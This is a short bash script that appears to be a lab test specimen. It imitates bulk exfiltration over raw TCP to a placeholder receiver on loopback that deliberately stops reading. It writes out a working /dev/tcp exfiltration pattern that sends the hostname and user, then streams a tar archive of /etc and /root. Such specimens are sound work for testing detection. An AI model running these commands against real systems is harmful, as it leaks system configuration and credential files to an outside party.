#!/bin/bash
# kcsi lab specimen: bulk exfiltration over raw TCP. Opens a connection to @@DROP@@ (127.x)
# with bash's /dev/tcp, sends a one-line header, streams `tar cf - /etc /root` into it and
# waits for the receiver's acknowledgement line (which never comes: the receiver stopped
# reading, so the archive waits in this side's send queue).
exec 3<>/dev/tcp/@@DROP_ADDR@@/@@DROP_PORT@@ || exit 1
printf 'BKUP %s %s %s @@TAG@@\n' "$(hostname)" "$(id -un)" "$(date +%s)" >&3
tar cf - /etc /root >&3 2>/dev/null
read -r ack <&3
